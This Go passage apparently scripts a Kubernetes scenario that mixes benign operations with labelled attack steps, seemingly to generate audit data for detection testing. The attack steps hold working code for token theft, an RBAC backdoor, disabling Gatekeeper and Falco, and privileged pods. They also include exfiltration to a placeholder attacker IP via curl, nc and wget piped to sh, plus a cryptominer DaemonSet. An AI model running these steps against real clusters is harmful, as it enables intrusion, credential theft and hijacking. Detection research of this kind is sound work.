	helm := mk(tokenCfg("helm-deployer", mintToken("platform-ci", "helm-deployer")), h5IPPlatformCI, h5UAHelm)
	gha := mk(tokenCfg("gha-deployer", mintToken(h5NS, "gha-deployer")), h5IPPaymentsCI, h5UAPaymentsCI)
	// Set by the attack steps that obtain them.
	var atkBackup, atkArgo, atkCert, atkBootstrap, torBackdoor kubernetes.Interface
	var stolenBackupToken, stolenArgoToken, backdoorToken string
	var certKey []byte

	now := func() string { return time.Now().UTC().Format(time.RFC3339) }
	authorizedRaw := func(r rest.Result) error {
		var code int
		r.StatusCode(&code)
		return h5Authorized(code, r.Error())
	}
	forbidden := func(err error) bool { return apierrors.IsForbidden(err) }
	unauthorized := func(err error) bool { return apierrors.IsUnauthorized(err) }

	// ---- the script ----
	benign1 := []h5Step{
		{"B01", "benign", "Argo CD sync: roll checkout to the image tag merged in Git", func(ctx context.Context) error {
			d, err := argo.AppsV1().Deployments(h5NS).Get(ctx, "checkout", metav1.GetOptions{})
			if err != nil {
				return err
			}
			d.Spec.Template.Spec.Containers[0].Image = "ghcr.io/acme-pay/checkout:1.43.0"
			if d.Annotations == nil {
				d.Annotations = map[string]string{}
			}
			d.Annotations["argocd.argoproj.io/tracking-id"] = "payments:apps/Deployment:payments/checkout"
			_, err = argo.AppsV1().Deployments(h5NS).Update(ctx, d, metav1.UpdateOptions{})
			return err
		}},
		{"B02", "benign", "Argo CD sync: external-secrets operator RBAC (cluster-wide Secret read) from the platform repo", func(ctx context.Context) error {
			if _, err := argo.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{
				ObjectMeta: metav1.ObjectMeta{Name: "external-secrets-controller", Labels: map[string]string{"app.kubernetes.io/instance": "external-secrets"}},
				Rules: []rbacv1.PolicyRule{
					{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch", "create", "update", "delete"}},
					{APIGroups: []string{"external-secrets.io"}, Resources: []string{"externalsecrets", "secretstores", "clustersecretstores"}, Verbs: read},
				},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := argo.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "external-secrets-controller", Labels: map[string]string{"app.kubernetes.io/instance": "external-secrets"}},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "external-secrets-controller"},
				Subjects:   saSubject("external-secrets", "external-secrets"),
			}, metav1.CreateOptions{})
			return err
		}},
		{"B03", "benign", "cert-manager renews the checkout TLS certificate (writes the Secret, emits an Event)", func(ctx context.Context) error {
			s, err := certManager.CoreV1().Secrets(h5NS).Get(ctx, "checkout-tls", metav1.GetOptions{})
			if err != nil {
				return err
			}
			s.Data = tlsData("gen2")
			if _, err := certManager.CoreV1().Secrets(h5NS).Update(ctx, s, metav1.UpdateOptions{}); err != nil {
				return err
			}
			_, err = certManager.CoreV1().Events(h5NS).Create(ctx, &corev1.Event{
				ObjectMeta:     metav1.ObjectMeta{Name: "checkout-tls.h5renew1", Namespace: h5NS},
				InvolvedObject: corev1.ObjectReference{APIVersion: "cert-manager.io/v1", Kind: "Certificate", Namespace: h5NS, Name: "checkout-tls"},
				Reason:         "Issuing", Message: "The certificate has been successfully issued", Type: corev1.EventTypeNormal,
				Source:         corev1.EventSource{Component: "cert-manager-certificates-issuing"},
				FirstTimestamp: metav1.Now(), LastTimestamp: metav1.Now(), Count: 1,
			}, metav1.CreateOptions{})
			return err
		}},
		{"B04", "benign", "contractor (from the vendor VPN) checks pods and scales checkout for a load test", func(ctx context.Context) error {
			if _, err := contractor.CoreV1().Pods(h5NS).List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			sc, err := contractor.AppsV1().Deployments(h5NS).GetScale(ctx, "checkout", metav1.GetOptions{})
			if err != nil {
				return err
			}
			sc.Spec.Replicas = 3
			_, err = contractor.AppsV1().Deployments(h5NS).UpdateScale(ctx, "checkout", sc, metav1.UpdateOptions{})
			return err
		}},
		{"B05", "benign", "contractor flips a feature flag in the checkout ConfigMap", func(ctx context.Context) error {
			cm, err := contractor.CoreV1().ConfigMaps(h5NS).Get(ctx, "checkout-config", metav1.GetOptions{})
			if err != nil {
				return err
			}
			cm.Data["FEATURE_NEW_3DS"] = "true"
			_, err = contractor.CoreV1().ConfigMaps(h5NS).Update(ctx, cm, metav1.UpdateOptions{})
			return err
		}},
		{"B06", "benign", "SRE triage: list nodes and all pods", func(ctx context.Context) error {
			if _, err := sre.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := sre.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"B07", "benign", "kubescape RBAC posture scan (roles and bindings, cluster-wide)", func(ctx context.Context) error {
			if _, err := auditor.RbacV1().ClusterRoles().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.RbacV1().Roles("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := auditor.RbacV1().RoleBindings("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"B08", "benign", "nightly db-backup job (its own pod) lists Secrets cluster-wide and tenant ConfigMaps", func(ctx context.Context) error {
			if _, err := backup.CoreV1().Secrets("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := backup.CoreV1().ConfigMaps(h5NS).List(ctx, metav1.ListOptions{})
			return err
		}},
		{"B09", "benign", "kubelet rotates its serving certificate (kubelet-serving CSR)", func(ctx context.Context) error {
			_, csrPEM, err := h5CSR("system:node:"+c.NodeName, []string{"system:nodes"}, []string{c.NodeName}, []net.IP{net.ParseIP(h5IPNode)})
			if err != nil {
				return err
			}
			_, err = node.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "csr-h5kls"},
				Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM, SignerName: certificatesv1.KubeletServingSignerName,
					Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageServerAuth}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"B10", "benign", "SRE approves the kubelet serving CSR", func(ctx context.Context) error {
			csr, err := sre.CertificatesV1().CertificateSigningRequests().Get(ctx, "csr-h5kls", metav1.GetOptions{})
			if err != nil {
				return err
			}
			csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
				Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "kubelet serving cert rotation for " + c.NodeName})
			_, err = sre.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, "csr-h5kls", csr, metav1.UpdateOptions{})
			return err
		}},
	}

	attack1 := []h5Step{
		{"A01", "attack", "whoami with the leaked kubeconfig from a VPS (SelfSubjectReview)", func(ctx context.Context) error {
			_, err := atkContractor.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
			return err
		}},
		{"A02", "attack", "permission enumeration: kubectl auth can-i --list (SelfSubjectRulesReview)", func(ctx context.Context) error {
			_, err := atkContractor.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: h5NS}}, metav1.CreateOptions{})
			return err
		}},
		{"A03", "attack", "cluster discovery beyond the tenant: list namespaces (403)", func(ctx context.Context) error {
			_, err := atkContractor.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
			return h5Forbidden(err)
		}},
		{"A04", "attack", "targeted can-i probes for escalation verbs (SelfSubjectAccessReviews)", func(ctx context.Context) error {
			for _, ra := range []authorizationv1.ResourceAttributes{
				{Verb: "create", Group: "rbac.authorization.k8s.io", Resource: "clusterrolebindings"},
				{Verb: "list", Resource: "secrets"},
				{Verb: "create", Resource: "pods", Namespace: "kube-system"},
				{Verb: "impersonate", Resource: "serviceaccounts", Namespace: h5NS},
				{Verb: "create", Resource: "serviceaccounts", Subresource: "token", Namespace: h5NS},
				{Verb: "create", Resource: "pods", Subresource: "exec", Namespace: h5NS},
			} {
				ra := ra
				if _, err := atkContractor.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &ra}}, metav1.CreateOptions{}); err != nil {
					return err
				}
			}
			return nil
		}},
		{"A05", "attack", "dump the tenant's Secrets (list secrets in payments)", func(ctx context.Context) error {
			_, err := atkContractor.CoreV1().Secrets(h5NS).List(ctx, metav1.ListOptions{})
			return err
		}},
		{"A06", "attack", "RBAC recon for a privileged ServiceAccount (rolebindings, serviceaccounts; clusterrolebindings 403)", func(ctx context.Context) error {
			if _, err := atkContractor.RbacV1().RoleBindings(h5NS).List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := atkContractor.CoreV1().ServiceAccounts(h5NS).List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := atkContractor.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
			return h5Forbidden(err)
		}},
		{"A07", "attack", "Bad Pods everything-allowed pod in the tenant namespace (rejected by PodSecurity: 403)", func(ctx context.Context) error {
			_, err := atkContractor.CoreV1().Pods(h5NS).Create(ctx, h5EverythingAllowedPod(h5NS, "debug-tools"), metav1.CreateOptions{})
			return h5Forbidden(err)
		}},
		{"A08", "attack", "impersonate the db-backup ServiceAccount to read kube-system Secrets", func(ctx context.Context) error {
			_, err := atkImpersonating.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"A09", "attack", "mint a 1-year token for the db-backup ServiceAccount (TokenRequest)", func(ctx context.Context) error {
			exp := int64(365 * 24 * 3600)
			tr, err := atkContractor.CoreV1().ServiceAccounts(h5NS).CreateToken(ctx, "db-backup", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &exp}}, metav1.CreateOptions{})
			if err != nil {
				return err
			}
			stolenBackupToken = tr.Status.Token
			atkBackup = mk(tokenCfg("db-backup-stolen", stolenBackupToken), h5IPAttacker, h5UAAttacker)
			return nil
		}},
		{"A10", "attack", "run a pod as the db-backup ServiceAccount that ships its mounted token out", func(ctx context.Context) error {
			_, err := atkContractor.CoreV1().Pods(h5NS).Create(ctx, &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: "pg-maint", Namespace: h5NS, Labels: map[string]string{"app": "pg-maint"}},
				Spec: corev1.PodSpec{ServiceAccountName: "db-backup", Containers: []corev1.Container{{Name: "pg-maint", Image: "docker.io/library/alpine:3.20",
					Command: []string{"sh", "-c", "apk add -q curl && curl -s -X POST --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token https://" + h5IPAttacker + "/t && sleep 86400"}}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A11", "attack", "port-forward to the tenant's postgres pod (fails after authorization: no kubelet)", func(ctx context.Context) error {
			return authorizedRaw(atkContractor.CoreV1().RESTClient().Post().Namespace(h5NS).Resource("pods").Name("postgres-0").SubResource("portforward").Param("ports", "5432").Do(ctx))
		}},
		{"A12", "attack", "stolen db-backup token from the VPS: list Secrets in all namespaces", func(ctx context.Context) error {
			_, err := atkBackup.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"A13", "attack", "read Argo CD's cluster-admin token Secret (kube-system/argocd-manager-long-lived-token)", func(ctx context.Context) error {
			s, err := atkBackup.CoreV1().Secrets("kube-system").Get(ctx, h5ArgoSecret, metav1.GetOptions{})
			if err != nil {
				return err
			}
			if len(s.Data["token"]) == 0 {
				return fmt.Errorf("no token in %s", h5ArgoSecret)
			}
			stolenArgoToken = string(s.Data["token"])
			atkArgo = mk(tokenCfg("argocd-manager-stolen", stolenArgoToken), h5IPAttacker, h5UAAttacker)
			return nil
		}},
	}

	benign2 := []h5Step{
		{"B11", "benign", "helm upgrade falco (privileged DaemonSet with hostPath mounts; release Secrets)", func(ctx context.Context) error {
			return h5HelmUpgrade(ctx, helm, "falco", "falco", 2, func() error {
				if _, err := helm.AppsV1().DaemonSets("falco").Get(ctx, "falco", metav1.GetOptions{}); err != nil {
					return err
				}
				p := `{"metadata":{"labels":{"helm.sh/chart":"falco-4.13.0"}},"spec":{"template":{"metadata":{"annotations":{"checksum/config":"5f2b1c0e"}},"spec":{"containers":[{"name":"falco","image":"docker.io/falcosecurity/falco:0.39.2"}]}}}}`
				_, err := helm.AppsV1().DaemonSets("falco").Patch(ctx, "falco", types.StrategicMergePatchType, []byte(p), metav1.PatchOptions{})
				return err
			})
		}},
		{"B12", "benign", "helm upgrade ingress-nginx (ClusterRole, admission ValidatingWebhookConfiguration, controller image)", func(ctx context.Context) error {
			return h5HelmUpgrade(ctx, helm, "ingress-nginx", "ingress-nginx", 2, func() error {
				cr, err := helm.RbacV1().ClusterRoles().Get(ctx, "ingress-nginx", metav1.GetOptions{})
				if err != nil {
					return err
				}
				cr.Rules = append(cr.Rules, rbacv1.PolicyRule{APIGroups: []string{"discovery.k8s.io"}, Resources: []string{"endpointslices"}, Verbs: read})
				if _, err := helm.RbacV1().ClusterRoles().Update(ctx, cr, metav1.UpdateOptions{}); err != nil {
					return err
				}
				fail := admissionregistrationv1.Fail
				none := admissionregistrationv1.SideEffectClassNone
				path := "/networking/v1/ingresses"
				if _, err := helm.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
					ObjectMeta: metav1.ObjectMeta{Name: "ingress-nginx-admission", Labels: map[string]string{"app.kubernetes.io/instance": "ingress-nginx", "app.kubernetes.io/managed-by": "Helm"}},
					Webhooks: []admissionregistrationv1.ValidatingWebhook{{
						Name:         "validate.nginx.ingress.kubernetes.io",
						ClientConfig: admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: "ingress-nginx", Name: "ingress-nginx-controller-admission", Path: &path}},
						Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
							Rule: admissionregistrationv1.Rule{APIGroups: []string{"networking.k8s.io"}, APIVersions: []string{"v1"}, Resources: []string{"ingresses"}}}},
						FailurePolicy: &fail, SideEffects: &none, AdmissionReviewVersions: []string{"v1"},
					}},
				}, metav1.CreateOptions{}); err != nil {
					return err
				}
				p := `{"spec":{"template":{"spec":{"containers":[{"name":"controller","image":"registry.k8s.io/ingress-nginx/controller:v1.11.4"}]}}}}`
				_, err = helm.AppsV1().Deployments("ingress-nginx").Patch(ctx, "ingress-nginx-controller", types.StrategicMergePatchType, []byte(p), metav1.PatchOptions{})
				return err
			})
		}},
		{"B13", "benign", "sealed-secrets controller unseals the payments DB credentials into a Secret", func(ctx context.Context) error {
			_, err := sealed.CoreV1().Secrets(h5NS).Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "db-credentials", Namespace: h5NS, Annotations: map[string]string{"sealedsecrets.bitnami.com/managed": "true"}},
				StringData: map[string]string{"username": "checkout", "password": "h5-unsealed-password"},
			}, metav1.CreateOptions{})
			return err
		}},
		{"B14", "benign", "SRE drains the node for kernel patching: cordon + evict a pod", func(ctx context.Context) error {
			if _, err := sre.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{}); err != nil {
				return err
			}
			return sre.PolicyV1().Evictions(h5NS).Evict(ctx, &policyv1.Eviction{ObjectMeta: metav1.ObjectMeta{Name: "checkout-legacy", Namespace: h5NS}})
		}},
		{"B15", "benign", "Argo CD onboards a tenant namespace (namespace + RoleBinding granting admin to the tenant group)", func(ctx context.Context) error {
			if _, err := argo.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "payments-canary",
				Labels: map[string]string{"tenant": "payments", "pod-security.kubernetes.io/enforce": "baseline"}}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := argo.RbacV1().RoleBindings("payments-canary").Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "tenant-admins", Namespace: "payments-canary"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "admin"}, Subjects: groupSubject(h5TenantGroup),
			}, metav1.CreateOptions{})
			return err
		}},
		{"B16", "benign", "kube-state-metrics lists workloads and nodes cluster-wide", func(ctx context.Context) error {
			if _, err := ksm.CoreV1().Pods("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := ksm.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := ksm.AppsV1().Deployments("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := ksm.AppsV1().DaemonSets("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"B17", "benign", "payments CI (GitHub Actions) sets the checkout image and watches the rollout", func(ctx context.Context) error {
			p := `{"spec":{"template":{"spec":{"containers":[{"name":"checkout","image":"ghcr.io/acme-pay/checkout:1.43.1"}]}}}}`
			if _, err := gha.AppsV1().Deployments(h5NS).Patch(ctx, "checkout", types.StrategicMergePatchType, []byte(p), metav1.PatchOptions{}); err != nil {
				return err
			}
			_, err := gha.AppsV1().Deployments(h5NS).Get(ctx, "checkout", metav1.GetOptions{})
			return err
		}},
		{"B18", "benign", "cert-manager cainjector writes the caBundle into the ingress-nginx admission webhook", func(ctx context.Context) error {
			w, err := caInjector.AdmissionregistrationV1().ValidatingWebhookConfigurations().Get(ctx, "ingress-nginx-admission", metav1.GetOptions{})
			if err != nil {
				return err
			}
			w.Webhooks[0].ClientConfig.CABundle = []byte("-----BEGIN CERTIFICATE-----\nMIIBh5ca\n-----END CERTIFICATE-----\n")
			_, err = caInjector.AdmissionregistrationV1().ValidatingWebhookConfigurations().Update(ctx, w, metav1.UpdateOptions{})
			return err
		}},
		{"B19", "benign", "SRE adds the corporate DNS stub zone to CoreDNS and restarts it (change ticket)", func(ctx context.Context) error {
			cm, err := sre.CoreV1().ConfigMaps("kube-system").Get(ctx, "coredns", metav1.GetOptions{})
			if err != nil {
				return err
			}
			cm.Data["Corefile"] += "acme-pay.internal:53 {\n    errors\n    cache 30\n    forward . 10.20.0.53 10.20.0.54\n}\n"
			if _, err := sre.CoreV1().ConfigMaps("kube-system").Update(ctx, cm, metav1.UpdateOptions{}); err != nil {
				return err
			}
			p := fmt.Sprintf(`{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":%q}}}}}`, now())
			_, err = sre.AppsV1().Deployments("kube-system").Patch(ctx, "coredns", types.StrategicMergePatchType, []byte(p), metav1.PatchOptions{})
			return err
		}},
		{"B20", "benign", "kubescape workload scan: namespaces, pods, network policies; can-i --list", func(ctx context.Context) error {
			if _, err := auditor.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.CoreV1().Pods("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.NetworkingV1().NetworkPolicies("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := auditor.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: h5NS}}, metav1.CreateOptions{})
			return err
		}},
	}

	var csrName = "kube-apiserver-healthcheck"
	attack2 := []h5Step{
		{"A14", "attack", "with Argo CD's stolen token: infrastructure discovery (nodes, namespaces)", func(ctx context.Context) error {
			if _, err := atkArgo.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := atkArgo.CoreV1().Nodes().Get(ctx, c.NodeName, metav1.GetOptions{}); err != nil {
				return err
			}
			_, err := atkArgo.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
			return err
		}},
		{"A15", "attack", "RBAC Buster backdoor: wildcard ClusterRole + ServiceAccount + ClusterRoleBinding named kube-controller", func(ctx context.Context) error {
			if _, err := atkArgo.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
				Rules: []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := atkArgo.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller", Namespace: "kube-system"}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := atkArgo.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
				RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kube-controller"}, Subjects: saSubject("kube-system", "kube-controller")}, metav1.CreateOptions{})
			return err
		}},
		{"A16", "attack", "non-expiring legacy token Secret for the backdoor ServiceAccount", func(ctx context.Context) error {
			if _, err := atkArgo.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-controller-token", Namespace: "kube-system", Annotations: map[string]string{corev1.ServiceAccountNameKey: "kube-controller"}},
				Type:       corev1.SecretTypeServiceAccountToken,
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			deadline := time.Now().Add(30 * time.Second)
			for {
				s, err := atkArgo.CoreV1().Secrets("kube-system").Get(ctx, "kube-controller-token", metav1.GetOptions{})
				if err != nil {
					return err
				}
				if len(s.Data["token"]) > 0 {
					backdoorToken = string(s.Data["token"])
					return nil
				}
				if time.Now().After(deadline) {
					return fmt.Errorf("kube-controller-token never populated")
				}
				time.Sleep(500 * time.Millisecond)
			}
		}},
		{"A17", "attack", "impair defenses: delete the Gatekeeper validating webhook", func(ctx context.Context) error {
			return atkArgo.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, "gatekeeper-validating-webhook-configuration", metav1.DeleteOptions{})
		}},
		{"A18", "attack", "impair defenses: pin the Falco DaemonSet to a node that does not exist", func(ctx context.Context) error {
			_, err := atkArgo.AppsV1().DaemonSets("falco").Patch(ctx, "falco", types.StrategicMergePatchType, []byte(`{"spec":{"template":{"spec":{"nodeSelector":{"falco-maintenance":"true"}}}}}`), metav1.PatchOptions{})
			return err
		}},
		{"A19", "attack", "downgrade Pod Security on the tenant namespace to privileged", func(ctx context.Context) error {
			_, err := atkArgo.CoreV1().Namespaces().Patch(ctx, h5NS, types.MergePatchType, []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`), metav1.PatchOptions{})
			return err
		}},
		{"A20", "attack", "Bad Pods everything-allowed pod (hostPID/hostNetwork/hostIPC, privileged, host / mounted), now admitted", func(ctx context.Context) error {
			return h5Retry(10*time.Second, forbidden, func() error {
				_, err := atkArgo.CoreV1().Pods(h5NS).Create(ctx, h5EverythingAllowedPod(h5NS, "node-debugger"), metav1.CreateOptions{})
				return err
			})
		}},
		{"A21", "attack", "exec nsenter into the host namespaces through the privileged pod (fails after authorization)", func(ctx context.Context) error {
			r := atkArgo.CoreV1().RESTClient().Post().Namespace(h5NS).Resource("pods").Name("node-debugger").SubResource("exec").
				Param("container", "node-debugger").Param("stdin", "true").Param("stdout", "true").Param("tty", "true")
			for _, a := range []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"} {
				r = r.Param("command", a)
			}
			return authorizedRaw(r.Do(ctx))
		}},
		{"A22", "attack", "pod pinned to the control-plane node mounting /etc/kubernetes and etcd data (PKI theft)", func(ctx context.Context) error {
			_, err := atkArgo.CoreV1().Pods("kube-system").Create(ctx, &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: "etcd-snapshot-h5", Namespace: "kube-system"},
				Spec: corev1.PodSpec{NodeName: c.NodeName, HostNetwork: true,
					Tolerations: []corev1.Toleration{{Key: "node-role.kubernetes.io/control-plane", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule}},
					Containers: []corev1.Container{{Name: "snap", Image: "docker.io/library/alpine:3.20",
						Command:      []string{"sh", "-c", "tar czf - /host/etc/kubernetes/pki /host/var/lib/etcd | nc " + h5IPAttacker + " 443"},
						VolumeMounts: []corev1.VolumeMount{{Name: "k8s", MountPath: "/host/etc/kubernetes"}, {Name: "etcd", MountPath: "/host/var/lib/etcd"}}}},
					Volumes: []corev1.Volume{{Name: "k8s", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc/kubernetes"}}},
						{Name: "etcd", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/lib/etcd"}}}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A23", "attack", "cryptominer DaemonSet in kube-system disguised as a metrics agent", func(ctx context.Context) error {
			labels := map[string]string{"k8s-app": "kube-metrics-agent"}
			_, err := atkArgo.AppsV1().DaemonSets("kube-system").Create(ctx, &appsv1.DaemonSet{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-metrics-agent", Namespace: "kube-system", Labels: labels},
				Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
					Spec: corev1.PodSpec{HostNetwork: true, Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
						Containers: []corev1.Container{{Name: "agent", Image: "docker.io/kubemetrics/node-agent:2.1",
							Args:            []string{"--donate-level=0", "-o", "pool.supportxmr.com:443", "--tls", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--cpu-max-threads-hint=90"},
							SecurityContext: &corev1.SecurityContext{Privileged: &yes}}}}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A24", "attack", "CronJob persistence in kube-system (reverse shell every 10 minutes)", func(ctx context.Context) error {
			_, err := atkArgo.BatchV1().CronJobs("kube-system").Create(ctx, &batchv1.CronJob{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-node-gc", Namespace: "kube-system"},
				Spec: batchv1.CronJobSpec{Schedule: "*/10 * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{
					Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, HostNetwork: true, ServiceAccountName: "kube-controller",
						Containers: []corev1.Container{{Name: "gc", Image: "docker.io/library/alpine:3.20", Command: []string{"sh", "-c", "wget -qO- http://" + h5IPAttacker + "/k.sh | sh"}}}}}}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A25", "attack", "malicious mutating admission webhook sending every pod creation to an external URL", func(ctx context.Context) error {
			ignore := admissionregistrationv1.Ignore
			none := admissionregistrationv1.SideEffectClassNone
			timeout := int32(2)
			url := "https://" + h5IPAttacker + ":8443/mutate"
			_, err := atkArgo.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "pod-policy.kube-system.svc"},
				Webhooks: []admissionregistrationv1.MutatingWebhook{{
					Name:         "pod-policy.kube-system.svc",
					ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
					Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
						Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
					FailurePolicy: &ignore, SideEffects: &none, TimeoutSeconds: &timeout, AdmissionReviewVersions: []string{"v1"},
				}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A26", "attack", "CSR for a system:masters client certificate (rejected by CertificateSubjectRestriction: 403)", func(ctx context.Context) error {
			_, csrPEM, err := h5CSR("kube-apiserver-healthcheck", []string{"system:masters"}, nil, nil)
			if err != nil {
				return err
			}
			_, err = atkArgo.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: csrName + "-masters"},
				Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM, SignerName: certificatesv1.KubeAPIServerClientSignerName,
					Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth}},
			}, metav1.CreateOptions{})
			return h5Forbidden(err)
		}},
		{"A27", "attack", "CSR for a client certificate in kubeadm:cluster-admins (the group kubeadm binds to cluster-admin)", func(ctx context.Context) error {
			key, csrPEM, err := h5CSR("kube-apiserver-healthcheck", []string{"kubeadm:cluster-admins"}, nil, nil)
			if err != nil {
				return err
			}
			certKey = key
			exp := int32(365 * 24 * 3600)
			_, err = atkArgo.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: csrName},
				Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM, SignerName: certificatesv1.KubeAPIServerClientSignerName, ExpirationSeconds: &exp,
					Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}},
